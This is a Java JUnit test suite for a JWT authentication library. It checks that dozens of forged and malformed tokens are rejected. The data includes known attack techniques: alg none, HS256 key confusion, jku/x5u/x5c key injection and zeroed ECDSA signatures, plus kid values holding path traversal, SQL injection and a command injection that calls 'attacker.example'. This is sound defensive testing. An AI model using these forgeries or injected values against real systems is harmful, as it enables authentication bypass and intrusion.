package dev.portico.auth.token;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.nimbusds.jose.EncryptionMethod;
import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWEAlgorithm;
import com.nimbusds.jose.JWEHeader;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.crypto.RSAEncrypter;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jose.jwk.Curve;
import com.nimbusds.jose.jwk.ECKey;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.util.Base64;
import com.nimbusds.jose.util.Base64URL;
import com.nimbusds.jwt.EncryptedJWT;
import com.nimbusds.jwt.JWTClaimsSet;
import dev.portico.auth.AuthResult;
import dev.portico.auth.Rejection;
import dev.portico.testing.MutableClock;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import java.io.IOException;
import java.io.InputStream;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyFactory;
import java.security.PrivateKey;
import java.security.Signature;
import java.security.cert.CertificateFactory;
import java.security.cert.X509Certificate;
import java.security.spec.PKCS8EncodedKeySpec;
import java.time.Duration;
import java.util.Date;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.Supplier;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Forged, tampered and malformed tokens, each of which must be refused; and the attacker's key
 * server must never be asked for anything.
 */
class AttackBatteryTest {

  private static final String MALFORMED = "token is malformed";
  private static final String ALGORITHM = "token signature algorithm is not accepted";
  private static final String UNKNOWN_KEY = "token is signed by a key the issuer does not publish";
  private static final String BAD_SIGNATURE = "token signature is invalid";
  private static final String ISSUER = "token issuer is not accepted here";
  private static final String AUDIENCE = "token audience is not accepted";
  private static final String TYPE = "token type (typ) is not accepted";

  private static final RSAKey RSA = TestKeys.rsa("rsa-1");
  private static final ECKey EC = TestKeys.ec(Curve.P_256, "ec-1");
  private static final ECKey EC384 = TestKeys.ec(Curve.P_384, "ec-384");
  private static final RSAKey PARTNER = TestKeys.rsa("partner-1");
  private static final RSAKey ATTACKER = TestKeys.rsa("evil-1");

  private static TestIdp idp;
  private static TestIdp attacker;
  private static MutableClock clock;
  private static IssuerRegistry registry;

  @BeforeAll
  static void start() {
    idp = new TestIdp();
    attacker = new TestIdp();
    idp.discovery("corp").jwks("corp", TestKeys.jwks(RSA, EC, EC384));
    idp.discovery("typed").jwks("typed", TestKeys.jwks(RSA));
    idp.discovery("partner").jwks("partner", TestKeys.jwks(PARTNER));
    attacker.jwks("evil", TestKeys.jwks(ATTACKER));
    clock = MutableClock.startingNow();
    registry =
        IssuerRegistry.create(
            Map.of(
                "corp",
                IssuerConfig.issuer(idp.issuer("corp"))
                    .audiences("orders-api")
                    .algorithms("RS256", "PS256", "ES256")
                    .build(),
                "typed",
                IssuerConfig.issuer(idp.issuer("typed")).tokenType("at+jwt").build(),
                "partner",
                IssuerConfig.issuer(idp.issuer("partner")).build()),
            IssuerConfig.settings(1000),
            clock,
            new SimpleMeterRegistry());
    await()
        .until(
            () ->
                Stream.of("corp", "typed", "partner")
                    .allMatch(n -> registry.status(n).lastKeyFetch() != null));
  }

  @AfterAll
  static void stop() {
    registry.close();
    idp.close();
    attacker.close();
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("attacks")
  void isRefusedWithoutLeakingTokenOrKeyAndWithoutCallingTheAttacker(
      String name, Supplier<String> forge, Rejection expected, String description) {
    String token = forge.get();

    AuthResult result =
        registry.authenticateBearer(token, List.of("corp", "typed")).block(Duration.ofSeconds(10));

    assertThat(result).isInstanceOf(AuthResult.Rejected.class);
    AuthResult.Rejected rejected = (AuthResult.Rejected) result;
    assertThat(rejected.reason()).isEqualTo(expected);
    assertThat(rejected.description()).isEqualTo(description);
    assertThat(rejected.description())
        .isNotBlank()
        .doesNotContain("eyJ")
        .doesNotContain(RSA.getModulus().toString().substring(0, 12));
    for (String segment : token.split("\\.")) {
      if (segment.length() >= 8) {
        assertThat(rejected.description()).doesNotContain(segment.substring(0, 8));
      }
    }
    assertThat(attacker.server.getAllServeEvents())
        .as("requests to the attacker's server")
        .isEmpty();
  }

  static Stream<Arguments> attacks() {
    return Stream.of(
        invalid(
            "alg none without signature",
            MALFORMED,
            () -> Tokens.b64("{\"alg\":\"none\"}") + "." + payload() + "."),
        invalid(
            "alg none with a signature",
            MALFORMED,
            () ->
                Tokens.b64("{\"alg\":\"none\"}")
                    + "."
                    + payload()
                    + "."
                    + signatureOf(corp().rs256(RSA))),
        invalid(
            "alg NONE in capitals",
            ALGORITHM,
            () ->
                Tokens.b64("{\"alg\":\"NONE\"}")
                    + "."
                    + payload()
                    + "."
                    + signatureOf(corp().rs256(RSA))),
        invalid(
            "HS256 keyed with the issuer's RSA public key as PEM",
            ALGORITHM,
            () -> corp().hs256(pem(RSA))),
        invalid(
            "HS256 keyed with the issuer's RSA public key as DER",
            ALGORITHM,
            () -> corp().hs256(der(RSA))),
        invalid(
            "HS256 keyed with the RSA modulus bytes",
            ALGORITHM,
            () -> corp().hs256(RSA.getModulus().decode())),
        invalid(
            "HS256 keyed with the issuer's JWK JSON, naming its kid",
            ALGORITHM,
            () ->
                corp()
                    .kid("rsa-1")
                    .hs256(RSA.toPublicJWK().toJSONString().getBytes(StandardCharsets.UTF_8))),
        invalid(
            "kid path traversal",
            UNKNOWN_KEY,
            () -> corp().kid("../../../../dev/null").rs256(ATTACKER)),
        invalid("kid SQL injection", UNKNOWN_KEY, () -> corp().kid("' OR 1=1 --").rs256(ATTACKER)),
        invalid(
            "kid command injection",
            UNKNOWN_KEY,
            () -> corp().kid("x|curl attacker.example").rs256(ATTACKER)),
        invalid(
            "jku pointing at the attacker's JWKS",
            UNKNOWN_KEY,
            () ->
                corp().header(h -> h.jwkURL(URI.create(attacker.jwksUri("evil")))).rs256(ATTACKER)),
        invalid(
            "x5u pointing at the attacker's certificate",
            UNKNOWN_KEY,
            () ->
                corp()
                    .header(h -> h.x509CertURL(URI.create(attacker.base() + "/cert.pem")))
                    .rs256(ATTACKER)),
        invalid(
            "embedded jwk of the attacker",
            UNKNOWN_KEY,
            () -> corp().header(h -> h.jwk(ATTACKER.toPublicJWK())).rs256(ATTACKER)),
        invalid(
            "embedded jwk reusing the issuer's kid",
            BAD_SIGNATURE,
            () -> corp().kid("rsa-1").header(h -> h.jwk(ATTACKER.toPublicJWK())).rs256(ATTACKER)),
        invalid(
            "x5c with the attacker's self-signed certificate",
            UNKNOWN_KEY,
            AttackBatteryTest::x5cToken),
        invalid(
            "signature by another key under the issuer's kid",
            BAD_SIGNATURE,
            () -> corp().kid("rsa-1").rs256(ATTACKER)),
        invalid(
            "signature by another key without kid",
            BAD_SIGNATURE,
            () ->
                corp()
                    .header(h -> h.keyID(null))
                    .sign(JWSAlgorithm.RS256, null, Tokens.rsaSigner(ATTACKER))),
        invalid(
            "RS256 signature relabelled PS256",
            BAD_SIGNATURE,
            () -> relabel(corp().rs256(RSA), "{\"alg\":\"PS256\",\"kid\":\"rsa-1\"}")),
        invalid(
            "algorithm not allowed for the issuer (ES384)",
            ALGORITHM,
            () -> corp().es(JWSAlgorithm.ES384, EC384)),
        invalid(
            "ES256 psychic signature (r = s = 0)",
            BAD_SIGNATURE,
            () ->
                relabel(corp().es(JWSAlgorithm.ES256, EC), null) + Base64URL.encode(new byte[64])),
        invalid(
            "ES256 signature in DER instead of R||S",
            BAD_SIGNATURE,
            AttackBatteryTest::derEcdsaToken),
        expired(
            "expired",
            "token has expired",
            () -> corp().expiresAt(clock.instant().minus(Duration.ofMinutes(10))).rs256(RSA)),
        expired(
            "not valid yet (nbf in the future)",
            "token is not valid yet (nbf)",
            () -> corp().notBefore(clock.instant().plus(Duration.ofMinutes(10))).rs256(RSA)),
        invalid(
            "issued in the future (iat)",
            "token is issued in the future (iat)",
            () -> corp().issuedAt(clock.instant().plus(Duration.ofMinutes(10))).rs256(RSA)),
        invalid(
            "missing exp", "token has no expiry (exp)", () -> corp().expiresAt(null).rs256(RSA)),
        invalid("exp as a string", MALFORMED, () -> corp().claim("exp", "99999999999").rs256(RSA)),
        invalid(
            "unknown issuer",
            ISSUER,
            () -> Tokens.from("https://evil.example", clock).rs256(ATTACKER)),
        invalid(
            "issuer configured but not accepted on this route",
            ISSUER,
            () -> Tokens.from(idp.issuer("partner"), clock).rs256(PARTNER)),
        invalid(
            "iss with a trailing slash",
            ISSUER,
            () -> Tokens.from(idp.issuer("corp") + "/", clock).rs256(RSA)),
        invalid("no iss", "token has no issuer (iss)", () -> corp().claim("iss", null).rs256(RSA)),
        invalid("wrong audience", AUDIENCE, () -> corp().audience("billing-api").rs256(RSA)),
        invalid("no audience", AUDIENCE, () -> corp().audience().rs256(RSA)),
        invalid(
            "unknown crit header",
            "token has critical header parameters Portico does not support",
            () ->
                corp()
                    .header(
                        h ->
                            h.criticalParams(Set.of("urn:example:ext"))
                                .customParam("urn:example:ext", true))
                    .rs256(RSA)),
        invalid(
            "unencoded payload (b64 false, crit)",
            MALFORMED,
            () ->
                corp()
                    .header(h -> h.base64URLEncodePayload(false).criticalParams(Set.of("b64")))
                    .rs256(RSA)),
        invalid(
            "typ other than the required at+jwt",
            TYPE,
            () -> Tokens.from(idp.issuer("typed"), clock).typ("JWT").rs256(RSA)),
        invalid(
            "typ missing where at+jwt is required",
            TYPE,
            () -> Tokens.from(idp.issuer("typed"), clock).rs256(RSA)),
        invalid("stripped signature", MALFORMED, () -> withoutSignature(corp().rs256(RSA)) + "."),
        invalid("signature segment missing", MALFORMED, () -> withoutSignature(corp().rs256(RSA))),
        invalid("truncated signature", BAD_SIGNATURE, () -> cut(corp().rs256(RSA), 10)),
        invalid("truncated in the payload", MALFORMED, () -> corp().rs256(RSA).substring(0, 60)),
        invalid(
            "bad base64 character in the payload",
            MALFORMED,
            () -> replaceIn(corp().rs256(RSA), 1, '*')),
        invalid(
            "standard base64 alphabet (+ and /)",
            MALFORMED,
            () -> corp().rs256(RSA).replace('-', '+').replace('_', '/') + "+/"),
        invalid("base64 padding", MALFORMED, () -> corp().rs256(RSA) + "=="),
        invalid(
            "non-canonical last character of the signature",
            MALFORMED,
            AttackBatteryTest::nonCanonicalSignature),
        invalid(
            "oversize token, signed",
            "token is too large",
            () -> corp().claim("blob", "x".repeat(9000)).rs256(RSA)),
        invalid(
            "duplicate alg in the header",
            MALFORMED,
            () ->
                Tokens.rawSigned(
                    "{\"alg\":\"RS256\",\"kid\":\"rsa-1\",\"alg\":\"HS256\"}",
                    claimsJson("alice"),
                    RSA)),
        invalid(
            "duplicate sub in the payload",
            MALFORMED,
            () ->
                Tokens.rawSigned(
                    "{\"alg\":\"RS256\",\"kid\":\"rsa-1\"}",
                    claimsJson("alice")
                        .replace("\"sub\":\"alice\"", "\"sub\":\"alice\",\"sub\":\"admin\""),
                    RSA)),
        invalid(
            "payload not JSON",
            MALFORMED,
            () ->
                Tokens.rawSigned("{\"alg\":\"RS256\",\"kid\":\"rsa-1\"}", "not json at all", RSA)),
        invalid(
            "payload a JSON array",
            MALFORMED,
            () -> Tokens.rawSigned("{\"alg\":\"RS256\",\"kid\":\"rsa-1\"}", "[\"alice\"]", RSA)),
        invalid(
            "JWE instead of JWS",
            "encrypted tokens (JWE) are not accepted",
            AttackBatteryTest::jwe),
        invalid("trailing whitespace", MALFORMED, () -> corp().rs256(RSA) + " "),
        invalid("leading whitespace", MALFORMED, () -> " " + corp().rs256(RSA)),
        invalid("trailing garbage", MALFORMED, () -> corp().rs256(RSA) + "!!"),
        invalid("extra segment", MALFORMED, () -> corp().rs256(RSA) + ".AAAA"),
        invalid(
            "line break inside",
            MALFORMED,
            () -> new StringBuilder(corp().rs256(RSA)).insert(40, "\r\n").toString()),
        invalid("empty token", "no token", () -> ""));
  }

  private static Arguments invalid(String name, String description, Supplier<String> forge) {
    return Arguments.of(name, forge, Rejection.INVALID_TOKEN, description);
  }

  private static Arguments expired(String name, String description, Supplier<String> forge) {
    return Arguments.of(name, forge, Rejection.EXPIRED_TOKEN, description);
  }

  private static Tokens corp() {
    return Tokens.from(idp.issuer("corp"), clock);
  }

  private static String claimsJson(String subject) {
    long now = clock.instant().getEpochSecond();
    return "{\"iss\":\""
        + idp.issuer("corp")
        + "\",\"sub\":\""
        + subject
        + "\",\"aud\":\"orders-api\",\"iat\":"
        + now
        + ",\"exp\":"
        + (now + 300)
        + "}";
  }

  private static String payload() {
    return Tokens.b64(claimsJson("alice"));
  }

  private static String signatureOf(String token) {
    return token.substring(token.lastIndexOf('.') + 1);
  }

  private static String withoutSignature(String token) {
    return token.substring(0, token.lastIndexOf('.'));
  }

  private static String cut(String token, int chars) {
    return token.substring(0, token.length() - chars);
  }

  /**
   * Swaps the header for {@code headerJson} (or, when null, drops the signature, keeping the dot).
   */
  private static String relabel(String token, String headerJson) {
    String[] parts = token.split("\\.");
    return headerJson == null
        ? parts[0] + "." + parts[1] + "."
        : Tokens.b64(headerJson) + "." + parts[1] + "." + parts[2];
  }

  private static String replaceIn(String token, int segment, char replacement) {
    String[] parts = token.split("\\.");
    parts[segment] = parts[segment].substring(0, 5) + replacement + parts[segment].substring(6);
    return String.join(".", parts);
  }

  /** The same signature bytes, spelled with non-zero unused bits in its last character. */
  private static String nonCanonicalSignature() {
    String token = corp().rs256(RSA);
    String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    char last = token.charAt(token.length() - 1);
    char bent = alphabet.charAt(alphabet.indexOf(last) | 1);
    return cut(token, 1) + bent;
  }

  private static byte[] pem(RSAKey key) {
    try {
      String b64 =
          java.util.Base64.getMimeEncoder(64, "\n".getBytes(StandardCharsets.US_ASCII))
              .encodeToString(key.toPublicKey().getEncoded());
      return ("-----BEGIN PUBLIC KEY-----\n" + b64 + "\n-----END PUBLIC KEY-----\n")
          .getBytes(StandardCharsets.US_ASCII);
    } catch (JOSEException e) {
      throw new IllegalStateException(e);
    }
  }

  private static byte[] der(RSAKey key) {
    try {
      return key.toPublicKey().getEncoded();
    } catch (JOSEException e) {
      throw new IllegalStateException(e);
    }
  }

  private static String derEcdsaToken() {
    try {
      String header = Tokens.b64("{\"alg\":\"ES256\",\"kid\":\"ec-1\"}");
      String signingInput = header + "." + payload();
      Signature ecdsa = Signature.getInstance("SHA256withECDSA");
      ecdsa.initSign(EC.toPrivateKey());
      ecdsa.update(signingInput.getBytes(StandardCharsets.US_ASCII));
      return signingInput + "." + Base64URL.encode(ecdsa.sign());
    } catch (GeneralSecurityException | JOSEException e) {
      throw new IllegalStateException(e);
    }
  }

  private static String x5cToken() {
    try (InputStream certIn = resource("attacker/cert.pem");
        InputStream keyIn = resource("attacker/key-pkcs8.pem")) {
      X509Certificate cert =
          (X509Certificate) CertificateFactory.getInstance("X.509").generateCertificate(certIn);
      Base64 certDer = Base64.encode(cert.getEncoded());
      String pem =
          new String(keyIn.readAllBytes(), StandardCharsets.US_ASCII)
              .replaceAll("-----[A-Z ]+-----|\\s", "");
      PrivateKey key =
          KeyFactory.getInstance("RSA")
              .generatePrivate(new PKCS8EncodedKeySpec(java.util.Base64.getDecoder().decode(pem)));
      return corp()
          .kid("attacker-cert")
          .header(h -> h.x509CertChain(List.of(certDer)))
          .sign(JWSAlgorithm.RS256, null, new RSASSASigner(key));
    } catch (IOException | GeneralSecurityException e) {
      throw new IllegalStateException(e);
    }
  }

  private static InputStream resource(String name) {
    return AttackBatteryTest.class.getClassLoader().getResourceAsStream(name);
  }

  private static String jwe() {
    try {
      JWTClaimsSet claims =
          new JWTClaimsSet.Builder()
              .issuer(idp.issuer("corp"))
              .subject("alice")
              .expirationTime(Date.from(clock.instant().plusSeconds(300)))
              .build();
      EncryptedJWT jwt =
          new EncryptedJWT(
              new JWEHeader(JWEAlgorithm.RSA_OAEP_256, EncryptionMethod.A128GCM), claims);
      jwt.encrypt(new RSAEncrypter(RSA.toRSAPublicKey()));
      return jwt.serialize();
    } catch (JOSEException e) {
      throw new IllegalStateException(e);
    }
  }
}
